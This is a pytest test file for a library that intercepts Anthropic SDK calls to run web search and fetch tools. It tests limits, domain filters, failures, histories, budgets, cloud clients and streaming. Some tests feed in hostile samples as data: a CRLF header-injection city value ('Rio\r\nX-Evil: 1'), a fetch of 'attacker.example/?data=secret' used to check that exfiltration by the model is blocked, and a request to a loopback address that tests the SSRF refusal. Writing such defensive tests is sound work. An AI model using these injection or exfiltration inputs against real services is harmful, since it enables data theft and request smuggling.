"""What an intercepted call does: limits, domains, failures, pages, histories, money, every kind of SDK client, and streams."""

import asyncio
import json
import time
from collections.abc import Mapping
from concurrent.futures import ThreadPoolExecutor
from contextlib import nullcontext
from decimal import Decimal
from typing import Any

import anthropic
import pytest
from anthropic.lib.credentials import AccessToken

from ipy_websearch import api
from ipy_websearch.errors import ConfigError
from ipy_websearch.interception import intercept, web_search_tool
from ipy_websearch.model import sdk_hook
from ipy_websearch.model.requests import estimate_tokens
from ipy_websearch.money.prices import worst_case
from tests.fakes import replies
from tests.fakes.clouds import Clouds, aws_error
from tests.fakes.engines import hit
from tests.fakes.replies import Limited, error, search_results, slow, text, thinking, tool_use, usage
from tests.interception.conftest import (
    ASKED,
    CLOUDS,
    FETCH,
    MARS,
    PAIR,
    QUESTION,
    SEARCH,
    THINKING,
    WEATHER,
    ask,
    fetch,
    found,
    going_on,
    kinds,
    search,
)  # fmt: skip

# --- bounds -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("most", [1, 14])
def test_every_search_that_is_allowed_can_be_made_one_by_one(client: Any, messages_api: Any, brave_api: Any, most: int) -> None:
    def behave(body: Mapping[str, Any]) -> Any:
        last = (body.get("tool_choice") or {}).get("type") == "none"
        return "That is all." if last else search(f"query number {len(body['messages'])}")

    messages_api.behave(behave)
    message = ask(client, tools=[{**SEARCH, "max_uses": most}])
    codes = [content.error_code for content in found(message) if not isinstance(content, list)]
    assert len(brave_api.requests) == most and codes == ["max_uses_exceeded"] and message.stop_reason == "end_turn"


def test_after_the_limit_other_tools_may_still_be_called(client: Any, messages_api: Any) -> None:
    messages_api.replies([search("one thing"), search("two things")], tool_use("get_weather", {"city": "Rome"}))
    message = ask(client, tools=[{**SEARCH, "max_uses": 1}, WEATHER])
    assert message.stop_reason == "tool_use" and message.content[-1].name == "get_weather"


@pytest.mark.parametrize(
    ("bounds", "urls"),
    [
        ({"allowed_domains": ["a.example/docs"]}, ["https://a.example/docs/x", "https://sub.a.example/docs/"]),
        ({"blocked_domains": ["evil.example", "a.example/docs"]}, ["https://a.example/blog"]),
    ],
)
def test_domains_bind_the_search_with_their_paths(
    client: Any, messages_api: Any, brave_api: Any, bounds: dict[str, Any], urls: list[str]
) -> None:
    every = ["https://a.example/docs/x", "https://a.example/blog", "https://evil.example/docs", "https://sub.a.example/docs/"]
    brave_api.reply([hit(url, url, "Text.") for url in every])
    messages_api.replies(search("ruby docs"), "So.")
    assert [r.url for r in found(ask(client, tools=[{**SEARCH, **bounds}]))[0]] == urls


def test_the_users_place_goes_to_the_engine(client: Any, messages_api: Any, brave_api: Any) -> None:
    place = {"country": "BR", "city": "Rio\r\nX-Evil: 1", "region": "RJ", "timezone": "America/Sao_Paulo"}
    messages_api.replies(search("weather tomorrow"), "So.")
    ask(client, tools=[{**SEARCH, "user_location": {"type": "approximate", **place}}])
    sent = {name.lower(): value for name, value in brave_api.requests[0].headers.items()}
    where = {"city": "Rio X-Evil: 1", "state": "RJ", "timezone": "America/Sao_Paulo", "country": "BR"}
    assert {name: sent[f"x-loc-{name}"] for name in where} == where and brave_api.requests[0].values()["country"] == "BR"


@pytest.mark.parametrize("caches", [True, False])
def test_a_caller_who_caches_has_the_newest_result_cached_too(client: Any, messages_api: Any, caches: bool) -> None:
    """A text that looks like a breakpoint is none."""
    system = {"type": "text", "text": "{'cache_control': {'type': 'ephemeral'}}"}
    marked = {**system, "cache_control": {"type": "ephemeral"}}
    messages_api.replies(search(), "So.")
    ask(client, system=[marked if caches else system])
    assert ("cache_control" in messages_api.bodies[-1]["messages"][-1]["content"][-1]) is caches


WRONG: list[Any] = [
    (SEARCH, {"max_uses": 7.5}),
    (SEARCH, {"max_uses": {"a": 1}}),
    *((FETCH, {name: "nonsense"}) for name in ("citations", "max_content_tokens", "use_cache", "url_sources")),
    (SEARCH, {"max_uses": 0}),
    (SEARCH, {"max_uses": True}),
    (SEARCH, {"allowed_domains": ["a.com"], "blocked_domains": ["b.com"]}),
    (SEARCH, {"allowed_domains": ["https://a.example"]}),
    (SEARCH, {"user_location": {"type": "exact"}}),
    (SEARCH, {"user_location": {"type": "approximate", "city": 7}}),
]


@pytest.mark.parametrize(("tool", "wrong"), WRONG)
def test_a_definition_that_the_api_would_refuse_is_refused_in_a_line(
    client: Any, messages_api: Any, tool: Any, wrong: dict[str, Any]
) -> None:
    with pytest.raises(ConfigError, match=next(iter(wrong))) as caught:
        ask(client, tools=[{**tool, **wrong}])
    assert "\n" not in str(caught.value) and tool["name"] in str(caught.value) and messages_api.requests == []


@pytest.mark.parametrize(
    ("wrong", "says"),
    [
        ({"provider": "nosuch"}, "nosuch"),
        ({"max_uses": 0}, "max_uses"),
        ({"provider": "tavily"}, "TAVILY"),
        ({"enabled_platforms": ["mainframe"]}, "mainframe"),
        ({"client": object()}, "object"),
    ],
)
def test_wrong_arguments_are_refused_at_once(messages_api: Any, wrong: dict[str, Any], says: str) -> None:
    with pytest.raises(ConfigError, match=says):
        intercept(**{"client": anthropic.Anthropic(), **wrong})


# --- replies ----------------------------------------------------------------------------------------------------------


def test_silence_after_results_is_asked_about_once(client: Any, messages_api: Any) -> None:
    messages_api.replies(search(), replies.stop("end_turn"), "Matz.")
    assert ask(client).content[-1].text == "Matz."


@pytest.mark.parametrize("choice", [{"type": "tool", "name": "web_search"}, {"type": "any"}], ids=lambda c: c["type"])
def test_a_forced_choice_is_let_go_once_it_was_used_and_where_it_cannot_be(client: Any, messages_api: Any, choice: Any) -> None:
    messages_api.replies(search(), "Matz.")
    ask(client, model="claude-haiku-5-5", tool_choice={**choice, "disable_parallel_tool_use": True})
    first, second = (body["tool_choice"] for body in messages_api.bodies)
    assert first["type"] == choice["type"] and second == {"type": "auto", "disable_parallel_tool_use": True}
    messages_api.reply("Matz.")
    ask(client, tool_choice=choice)
    assert messages_api.bodies[-1]["tool_choice"] == {"type": "auto"}


UNAVAILABLE = ["unavailable"]
FAILURES: list[Any] = [
    ([429], [[search()]], ["too_many_requests"], 1),
    ([500] * 3, [[search()]], UNAVAILABLE, 3),
    ([414], [[search()]], ["request_too_large"], 1),
    ([401], [[search()]], UNAVAILABLE, 1),
    ([], [[tool_use("ipy_web_search", {})]], ["invalid_tool_input"], 0),
]


@pytest.mark.parametrize(("statuses", "calls", "codes", "asked"), FAILURES)
def test_a_failed_search_is_told_has_the_native_code_and_is_not_counted(
    client: Any, messages_api: Any, brave_api: Any, statuses: list[int], calls: list[Any], codes: list[str], asked: int
) -> None:
    for status in statuses:
        brave_api.fail(status)
    messages_api.replies(*calls, "I could not search.")
    with pytest.warns(UserWarning, match="brave .*; nothing was searched") if statuses else nullcontext():
        message = ask(client)
    assert [result.error_code for result in found(message)] == codes and len(brave_api.requests) == asked
    assert found(message)[0].type == "web_search_tool_result_error" and message.usage.server_tool_use.web_search_requests == 0
    assert messages_api.bodies[1]["messages"][-1]["content"][0]["is_error"] is True


def test_a_call_that_was_cut_off_is_not_run(client: Any, messages_api: Any, brave_api: Any) -> None:
    messages_api.replies([search(), replies.stop("max_tokens")])
    message = ask(client)
    assert (found(message)[0].error_code, message.stop_reason) == ("invalid_tool_input", "max_tokens")
    assert brave_api.queries == []


def test_a_page_is_fetched_in_the_native_shape_and_cited_by_characters(client: Any, messages_api: Any) -> None:
    messages_api.replies(fetch(), text("Mars is a planet.", citations=[(0, 1)]))
    asked = [{"role": "user", "content": f"Read {MARS} please"}]
    message = ask(client, messages=asked, tools=[{**FETCH, "citations": {"enabled": True}}])
    call, result, said = message.content
    page, (citation,) = result.content, said.citations
    assert call.name == "web_fetch" and page.type == "web_fetch_result" and page.url == MARS and page.content.title == "Mars"
    assert citation.type == "char_location" and citation.document_index == 0
    assert page.content.source.data[citation.start_char_index : citation.end_char_index] == citation.cited_text
    assert message.usage.server_tool_use.web_fetch_requests == 1


@pytest.mark.parametrize(
    ("url", "extra", "code"),
    [
        ("https://unknown.example/", {}, "url_not_in_prior_context"),
        (MARS, {"blocked_domains": ["planets"]}, "url_not_allowed"),
        ("http://127.0.0.1:9/", {}, "url_not_allowed"),
        ("https://nowhere.example/", {}, "url_not_accessible"),
    ],
    ids=["unknown", "blocked", "private", "unreachable"],
)
def test_a_page_that_may_not_be_read_has_the_native_code(
    client: Any, messages_api: Any, offline: Any, url: str, extra: dict[str, Any], code: str
) -> None:
    messages_api.replies(fetch(url), "I could not.")
    asked = [{"role": "user", "content": f"Read {MARS}, http://127.0.0.1:9/ and https://nowhere.example/ please"}]
    assert found(ask(client, messages=asked, tools=[{**FETCH, **extra}]))[0].error_code == code


def test_a_search_for_an_address_makes_it_known_to_no_later_call(client: Any, messages_api: Any, brave_api: Any) -> None:
    """What nobody else wrote down could carry away what the model knows."""
    url = "https://attacker.example/?data=secret"
    brave_api.reply([])
    messages_api.replies(search(url), "Nothing.", fetch(url), "I could not.")
    history = going_on(ask(client, tools=[SEARCH, FETCH]))
    assert found(ask(client, messages=history, tools=[SEARCH, FETCH]))[-1].error_code == "url_not_in_prior_context"


# --- histories --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("way", ["whole", "stream"])
def test_whatever_happened_is_sent_back_as_it_was(client: Any, messages_api: Any, brave_api: Any, way: str) -> None:
    """Repeated calls, failures, nothing found, pages, citations, limits: the API ties thinking to all that stood before it."""
    tools = [{**SEARCH, "max_uses": 3}, {**FETCH, "citations": {"enabled": True}}]
    asked = [{"role": "user", "content": f"Read {MARS} and search please"}]
    brave_api.reply([hit("https://a.example/", "A", "Matz."), hit("https://b.example/", "B", "Ruby.")])
    brave_api.reply([])
    messages_api.replies(
        [thinking(), "Look.", search("ruby author"), search("Ruby  author")],
        [thinking(), text("Matz.", citations=[(0, 0)]), search("nothing at all")],
        [thinking(), search("x"), fetch(), fetch(), fetch("https://unknown.example/")],
        [thinking(), text("A planet.", citations=[(2, 1)]), search("one more"), search("too many")],
        [thinking(), "So it is."],
    )
    options = {"tools": tools, "thinking": THINKING}
    message = ask(client, way, messages=asked, **options)
    before = messages_api.bodies[-1]["messages"]
    messages_api.reply("Yes.")
    ask(client, messages=[*asked, *going_on(message)[1:]], **options)
    sent = json.loads(json.dumps(messages_api.bodies[-1]["messages"]))
    assert sent[: len(before)] == before and [b["type"] for b in sent[len(before)]["content"]] == ["thinking", "text"]


def test_thinking_that_is_refused_in_an_edited_history_is_left_out_once(client: Any, messages_api: Any) -> None:
    messages_api.replies([thinking("Where?"), search()], "Matz.")
    first = ask(client, thinking=THINKING)
    first.content[0].signature = "changed"
    messages_api.allow_refusals = True
    messages_api.reply("In Japan.")
    again = ask(client, messages=going_on(first), thinking=THINKING)
    assert again.content[-1].text == "In Japan." and search_results(messages_api.bodies[-1])


def test_a_citation_of_results_that_a_shortened_history_lacks_does_not_go_back(client: Any, messages_api: Any) -> None:
    """The API would refuse it: its number is now that of another result, or of none."""
    messages_api.replies(search(), "Matz.", search("ruby year"), text("In 1995.", citations=[(0, 0), (5, 0)]), "Yes.")
    second = ask(client, messages=going_on(ask(client)))
    assert ask(client, messages=going_on(second)).content[-1].text == "Yes." and len(second.content[-1].citations) == 2
    assert messages_api.bodies[-1]["messages"][-2]["content"] == [{"type": "text", "text": "In 1995."}]


def test_code_that_the_platform_runs_goes_on_in_its_container(client: Any, messages_api: Any) -> None:
    """The API refuses results without it while its own code waits."""
    held = replies.Manner(extra={"container": {"id": "container_1", "expires_at": "2026-12-01T00:00:00Z"}})
    messages_api.replies([search(), held], "Matz.")
    ask(client)
    assert [body.get("container") for body in messages_api.bodies] == [None, "container_1"]


def test_a_history_goes_on_without_the_tool_that_made_it(client: Any, messages_api: Any, brave_api: Any) -> None:
    messages_api.replies(search(), text("Matz.", citations=[(0, 0)]))
    first = ask(client)
    messages_api.reply("In Japan.")
    assert ask(client, messages=going_on(first), tools=anthropic.omit).content[-1].text == "In Japan."
    assert search_results(messages_api.bodies[-1]) and messages_api.bodies[-1]["tool_choice"] == {"type": "none"}


def test_searches_of_the_api_are_told_as_text_where_nobody_knows_its_blocks(client: Any, messages_api: Any) -> None:
    made = replies.server_search("ruby", [("https://a.example/", "About Ruby")]).make({})
    messages_api.reply("So.")
    ask(client, messages=[*QUESTION, {"role": "assistant", "content": made}, *QUESTION], tools=anthropic.omit)
    told = messages_api.bodies[0]["messages"][1]["content"]
    assert [block["type"] for block in told] == ["text"] and "https://a.example/" in told[0]["text"]


def note(n: int, **more: Any) -> dict[str, Any]:
    """Return a search result of the caller's own."""
    content = [{"type": "text", "text": f"What note {n} says."}]
    return {"type": "search_result", "source": f"https://notes.example/{n}", "title": "Note", "content": content, **more}


def test_our_results_do_not_shift_the_numbers_of_the_callers(client: Any, messages_api: Any, brave_api: Any) -> None:
    """In the last request: the caller's 0, five of ours, the caller's 1 and 2."""
    notes = [note(n, citations={"enabled": True}) for n in range(3)]
    asked = {"role": "user", "content": [notes[0], {"type": "text", "text": "Compare with the web."}]}
    messages_api.reply(search(), tool_use("get_weather", {"city": "Rome"}))
    first = ask(client, messages=[asked], tools=[SEARCH, WEATHER])
    result = {"type": "tool_result", "tool_use_id": first.content[-1].id, "content": notes[1:]}
    messages_api.reply(text("So.", citations=[(0, 0), (1, 0), (6, 0), (7, 0)]))
    second = ask(client, messages=[asked, *going_on(first, result)[1:]], tools=[SEARCH, WEATHER])
    places = [c.url if hasattr(c, "url") else c.search_result_index for c in second.content[-1].citations]
    assert places == [0, found(first)[0][0].url, 1, 2]


def test_results_beside_the_callers_own_are_cited_as_these_are(client: Any, messages_api: Any) -> None:
    """All results of a request may be cited, or none: the API refuses a mixture, after the search was paid."""
    messages_api.replies(search(), "Matz.")
    ask(client, messages=[{"role": "user", "content": [note(0), {"type": "text", "text": "Who?"}]}])
    _, *ours = search_results(messages_api.bodies[-1])
    assert ours and not any(result["citations"]["enabled"] for result in ours)


# --- platforms --------------------------------------------------------------------------------------------------------


def test_the_apis_own_search_passes_untouched_unless_ours_is_asked_for(messages_api: Any, brave_api: Any) -> None:
    plain = intercept(anthropic.Anthropic())
    api.session().settings.platform = "anthropic"  # at the fake's address
    messages_api.reply(replies.server_search("ruby", [("https://a.example/", "About Ruby")]), "Matz.")
    message = ask(plain)
    messages_api.reply("Yes.")
    ask(plain, messages=going_on(message))
    assert messages_api.bodies[0]["tools"] == [SEARCH]
    assert messages_api.bodies[1]["messages"][1]["content"][0]["type"] == "server_tool_use"
    for options, own in (({"enabled_platforms": ["anthropic"]}, True), ({"enabled_platforms": ["bedrock"]}, False)):
        messages_api.reply("Matz.")
        ask(intercept(anthropic.Anthropic(), **options))  # type: ignore[arg-type]
        assert ("type" not in messages_api.bodies[-1]["tools"][0]) is own
    messages_api.replies(search(), "Matz.")
    assert kinds(ask(plain, tools=[web_search_tool()])) == [*PAIR, "text"]


def test_the_settings_say_who_searches_and_what_an_unknown_address_takes(messages_api: Any, brave_api: Any) -> None:
    """They are read at each call; with no provider named, the first of `search_tools` is asked."""
    client = intercept(anthropic.Anthropic())
    api.session().settings.search_tools = {"ours": {"provider": "local"}, "other": {"provider": "brave"}}
    for platform, form in (("vllm", "text"), ("litellm", "search_result")):
        api.session().settings.platform = platform
        messages_api.replies(search(f"moons of Mars {platform}"), "Two.")
        ask(client)
        results = messages_api.bodies[-1]["messages"][-1]["content"][0]["content"]
        assert {part["type"] for part in results} == {form} and "Phobos" in str(results) and not brave_api.queries


# --- money ------------------------------------------------------------------------------------------------------------

OPUS = "claude-opus-5"


def test_a_call_without_money_for_more_ends_with_what_it_has_and_thinks_less(messages_api: Any, brave_api: Any) -> None:
    """The API wants `budget_tokens` of at least 1,024, and below `max_tokens`."""

    def reply(body: Any) -> Any:
        last = body.get("tool_choice", {}).get("type") == "none"
        return ["What I have." if last else search(f"query {len(body['messages'])}"), usage(input_tokens=4000)]

    messages_api.behave(reply)
    asked = {"type": "enabled", "budget_tokens": 4_000}
    for left_usd in (0.05, 0.1, 0.15, 0.2, 0.25, 0.3, 0.5):
        api.session().settings.session_budget_usd = most = float(api.cost().usd.sum()) + left_usd
        client = intercept(anthropic.Anthropic(), provider="brave")
        message = ask(client, model="claude-opus-4-5", max_tokens=8_000, thinking=asked)
        assert message.content[-1].type == "text" and api.cost().usd.sum() <= most
    given = [body.get("thinking", {}).get("budget_tokens") for body in messages_api.bodies]
    assert None in given and 4_000 in given and any(1_024 <= tokens < 4_000 for tokens in filter(None, given)), given


@pytest.mark.parametrize(
    ("asked", "told", "usd"),
    [
        ({"speed": "fast"}, {"speed": "standard"}, "0.525"),
        ({"speed": "fast"}, {}, "1.05"),
        ({}, {"inference_geo": "us"}, "0.5775"),
    ],
)
def test_a_call_is_booked_at_the_terms_of_its_reply(
    client: Any, messages_api: Any, asked: dict[str, Any], told: dict[str, Any], usd: str
) -> None:
    """What was asked for counts where the reply says nothing of it."""
    messages_api.reply("Matz.", usage(input_tokens=100_000, output_tokens=1_000, **told))
    ask(client, model=OPUS, extra_body=asked)
    assert messages_api.bodies[0].items() >= asked.items() and api.session().spent_usd == Decimal(usd)


def test_a_budget_reserves_at_the_terms_asked_for_and_for_the_platforms_own_searches(
    client: Any, messages_api: Any, brave_api: Any
) -> None:
    """What is held while a request is under way is its worst case, and that of an answer."""
    limit, held = Limited(5), []

    def reply(body: Any) -> Any:
        held.append((limit.reserved, worst_case(body["model"], estimate_tokens(body), 1000)))
        return ["Matz.", usage(input_tokens=10, output_tokens=10, speed=body.get("speed"))]

    messages_api.behave(reply)
    ask(client, model=OPUS, extra_body={"speed": "fast"})
    with Clouds() as clouds:
        clouds.behave(reply)
        with intercept(anthropic.AnthropicVertex(**CLOUDS["Vertex"](clouds.url))) as vertex:
            ask(vertex, tools=[{**SEARCH, "max_uses": 3}, FETCH])  # Vertex runs this search itself, and not the fetch
    (fast, plain), (reserved, request) = held
    assert plain and request and fast >= 2 * plain and reserved >= request + Decimal("0.03") and limit.reserved == 0


# --- clients and streams ------------------------------------------------------------------------------------------------

WAYS = pytest.mark.parametrize("way", ["blocking", "async", "blocking stream", "async stream"])


def made(way: str, **options: Any) -> Any:
    """Return an intercepted client."""
    kind: Any = anthropic.AsyncAnthropic if "async" in way else anthropic.Anthropic
    return intercept(kind(**{"timeout": 20, **options}), provider="brave")


@WAYS
@pytest.mark.parametrize("cloud", ["Bedrock", "Vertex", "Foundry"])
def test_a_clouds_client_searches(brave_api: Any, cloud: str, way: str) -> None:
    pytest.importorskip("boto3")
    with Clouds() as clouds:
        kind = getattr(anthropic, f"{'Async' if 'async' in way else ''}Anthropic{cloud}")
        clouds.replies([thinking(), "Let me look.", search()], error(529), text("Matz wrote Ruby.", citations=[(0, 0)]))
        message = ask(intercept(kind(**CLOUDS[cloud](clouds.url)), provider="brave"), way)
        assert kinds(message) == ["thinking", "text", *PAIR, "text"]
        assert message.content[-1].citations[0].type == "web_search_result_location"
        assert len(clouds.signatures) == (3 if cloud == "Bedrock" else 0)
        clouds.check()


@pytest.mark.parametrize(
    ("end", "says"),
    [(aws_error("throttlingException", "Too many tokens"), "rate_limit_error.*Too many tokens"), (b"x" * 40, "cannot be read")],
)
def test_a_stream_of_bedrocks_that_fails_says_why(brave_api: Any, end: bytes, says: str) -> None:
    pytest.importorskip("boto3")
    with Clouds() as clouds:
        clouds.replies(*["Matz."] * 3)
        clouds.broken = [end] * 3
        client = intercept(anthropic.AnthropicBedrock(**CLOUDS["Bedrock"](clouds.url)), provider="brave")
        with pytest.raises(anthropic.APIStatusError, match=says):
            ask(client, "stream")


def test_the_tool_runner_of_the_sdk_searches_and_runs_its_own_tools(client: Any, messages_api: Any, brave_api: Any) -> None:
    """It asks for a conversation kept by the server first, and goes on with whole histories when that is refused."""

    @anthropic.beta_tool
    def add(left: int, right: int) -> str:
        """Add two numbers."""
        return str(left + right)

    messages_api.replies(search(), tool_use("add", {"left": 1, "right": 2}), "Matz, 3.")
    runner = client.beta.messages.tool_runner(**{**ASKED, "tools": [*ASKED["tools"], add]})
    assert runner.until_done().content[-1].text == "Matz, 3." and brave_api.queries == ["ruby author"]
    assert not any("thread" in body for body in messages_api.bodies)


def test_one_client_serves_many_threads(client: Any, messages_api: Any, brave_api: Any) -> None:
    def reply(body: Mapping[str, Any]) -> Any:
        asked = body["messages"][0]["content"]
        return f"About {asked}." if len(body["messages"]) > 1 else search(f"{asked} topic")

    def asked(n: int) -> str:
        return str(ask(client, "stream" * (n % 2), messages=[{"role": "user", "content": f"n{n}"}]).content[-1].text)

    messages_api.behave(reply)
    with ThreadPoolExecutor(20) as pool:
        assert list(pool.map(asked, range(40))) == [f"About n{n}." for n in range(40)]
    assert sorted(brave_api.queries) == sorted(f"n{n} topic" for n in range(40)) and len(api.cost()) == 120


@WAYS
@pytest.mark.parametrize("failing", [error(529), replies.hang_up()], ids=["busy", "lost"])
def test_a_later_request_alone_is_sent_again(messages_api: Any, brave_api: Any, way: str, failing: Any) -> None:
    messages_api.replies(search(), failing, failing, failing)
    with pytest.raises(anthropic.APIError):
        ask(made(way, max_retries=2), way)
    assert len(messages_api.requests) == 4 and brave_api.queries == ["ruby author"]
    messages_api.replies(search("ruby year"), failing, failing, "Matz.")
    assert kinds(ask(made(way, max_retries=2), way)) == [*PAIR, "text"]
    assert list(api.cost().kind).count("search") == 2


@pytest.mark.parametrize("way", ["blocking", "blocking stream"])
def test_a_token_that_expires_is_renewed_and_the_same_request_goes_on(
    messages_api: Any, brave_api: Any, way: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("ANTHROPIC_API_KEY")
    tokens = iter([messages_api.key, "renewed"])

    def token(**_: Any) -> AccessToken:
        return AccessToken(token=next(tokens), expires_at=int(time.time()) + 100_000)

    def expire(body: Any) -> Any:
        messages_api.key = "renewed"
        return error(401)

    messages_api.replies(search("one"), search("two"))
    messages_api.behave(lambda body: expire(body) if messages_api.key != "renewed" else "Matz.")
    assert kinds(ask(made(way, credentials=token), way)) == [*PAIR, *PAIR, "text"]
    assert [len(body["messages"]) for body in messages_api.bodies] == [1, 3, 5, 5] and brave_api.queries == ["one", "two"]


def test_a_request_that_found_nobody_costs_nothing_and_a_lost_one_is_booked_once(messages_api: Any, brave_api: Any) -> None:
    for options, booked in (({"base_url": "http://127.0.0.1:9"}, []), ({}, ["model"])):
        if booked:
            messages_api.reply(replies.hang_up())
        with pytest.raises(anthropic.APIConnectionError):
            ask(made("blocking", max_retries=0, **options))  # type: ignore[arg-type]
        assert list(api.cost().kind) == booked


WORDS = "one two three four five six seven eight nine ten eleven twelve"


def test_the_events_of_all_rounds_are_those_of_one_message_and_come_as_they_are_written(client: Any, messages_api: Any) -> None:
    spent = usage(input_tokens=20, output_tokens=2)
    messages_api.replies(
        [thinking(), WORDS, search("one thing"), search("two things"), spent, slow(0.05)],
        ["More.", search("three things"), spent],
        [text("Matz wrote Ruby.", citations=[(0, 0)]), WORDS, spent, slow(0.05)],
    )
    begun, rounds = list[int](), set[int]()
    with client.messages.stream(**ASKED) as stream:  # the SDK puts them together
        for event in stream:
            if event.type == "content_block_start":
                begun.append(event.index)
            if event.type == "text" and messages_api.active:
                rounds.add(len(messages_api.requests))
        message = stream.get_final_message()
    assert kinds(message) == ["thinking", "text", *PAIR, *PAIR, "text", *PAIR, "text", "text"] and rounds >= {1, 3}
    assert message.content[-2].citations[0].type == "web_search_result_location" and message.stop_reason == "end_turn"
    assert (message.usage.input_tokens, message.usage.output_tokens) == (60, 6)
    assert begun == list(range(len(message.content)))


def test_a_silent_stream_gets_pings_while_tools_run(
    client: Any, messages_api: Any, brave_api: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(sdk_hook, "PING_S", 0.05)
    brave_api.reply(delay_s=0.4)
    messages_api.replies(search(), "Matz.")
    head = {"x-api-key": "k"}
    with client.messages.with_streaming_response.create(**ASKED, stream=True, extra_headers=head) as response:
        lines = list(response.iter_lines())
    assert lines.count("event: ping") >= 2 and "event: message_stop" in lines


@pytest.mark.parametrize("manner", [replies.truncated, replies.broken_stream, replies.error_event])
def test_a_reply_that_breaks_is_asked_for_again_before_its_first_word_alone(
    client: Any, messages_api: Any, brave_api: Any, manner: Any
) -> None:
    messages_api.replies(search(), ["Matz.", manner(0)], "Matz.")
    assert kinds(ask(client, "stream")) == [*PAIR, "text"] and brave_api.queries == ["ruby author"]
    messages_api.reply(WORDS, manner(2))
    with pytest.raises(anthropic.APIStatusError):
        list(client.messages.create(**ASKED, stream=True))
    assert len(messages_api.requests) == 4


def test_a_cancelled_call_stops_and_is_booked(messages_api: Any, brave_api: Any) -> None:
    async def run() -> None:
        async with made("async") as client, client.messages.stream(**ASKED) as stream:
            async for _ in stream.text_stream:
                asyncio.current_task().cancel()  # type: ignore[union-attr]

    messages_api.reply(WORDS, search(), slow(0.2))
    with pytest.raises(asyncio.CancelledError):
        asyncio.run(run())
    messages_api.wait(lambda fake: not fake.active)
    assert brave_api.queries == [] and list(api.cost().kind) == ["model"]


@pytest.mark.parametrize("closed", [True, False])
def test_a_stream_that_is_left_ends_and_gives_back_what_was_reserved(
    client: Any, messages_api: Any, brave_api: Any, closed: bool
) -> None:
    session = api.session()
    session.settings.session_budget_usd = 1.0
    messages_api.reply(WORDS, search(), slow(0.02))
    stream = client.messages.create(**ASKED, stream=True)
    budget = session.budget.for_question("another")
    held = budget.left()
    if closed:
        stream.close()
    del stream
    messages_api.wait(lambda fake: budget.left() > held and list(api.cost().kind) == ["model"], timeout_s=5)
    assert brave_api.queries == []
